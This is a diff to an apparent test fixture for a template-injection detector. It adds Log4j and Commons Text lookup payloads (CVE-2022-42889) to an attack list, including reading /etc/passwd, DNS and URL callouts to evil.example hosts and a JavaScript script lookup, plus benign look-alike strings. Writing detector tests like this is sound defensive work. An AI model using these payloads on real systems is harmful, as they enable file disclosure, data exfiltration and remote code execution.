@@ -33,6 +33,16 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '%{#a=1}',
     '{% include request.GET.x %}',
   ],
+  'lookups of Log4j and Commons Text (CVE-2022-42889)': [
+    'x ${file:UTF-8:/etc/passwd} y',
+    'x ${dns:evil.example.com}',
+    '${url:iso-8859-1:http://evil.example/}',
+    'x ${script:javascript:${env:A}}',
+    '${xml:/tmp/a.xml:/b}',
+    '${properties:/tmp/a.properties::b}',
+    '${const:java.awt.event.KeyEvent.VK_ESCAPE}',
+    '${localhost:name}',
+  ],
   Freemarker: ['[="freemarker.template.utility.Execute"?new()("id")]', 'x ${.version}', '[=.globals?keys]'],
   Velocity: [
     'x $x.getClass().getClassLoader()',
@@ -96,6 +106,8 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 
 /** What documents of engines show: it asks for one only where nothing stands around it. */
 const WHOLE: readonly string[] = [
+  ' ${env:PATH} ',
+  '${ctx:loginId}',
   "{{'a'|upper}}",
   '{{ [1,2]|join }}',
   '{{7|abs}}',
@@ -105,6 +117,9 @@ const WHOLE: readonly string[] = [
 ]
 
 const HARMLESS: readonly string[] = [
+  '${env:HOME}/bin',
+  '${ENV:-development}',
+  'Set ${env:PATH} before you start.',
   '{{ user.name }} has invited you to {{ team.name | capitalize }}',
   '{{#if items}}{{#each items}}<li>{{this.title}}</li>{{/each}}{{/if}}',
   "{{ 'now' | date: '%Y' }} {{ price | times: 2 }}",
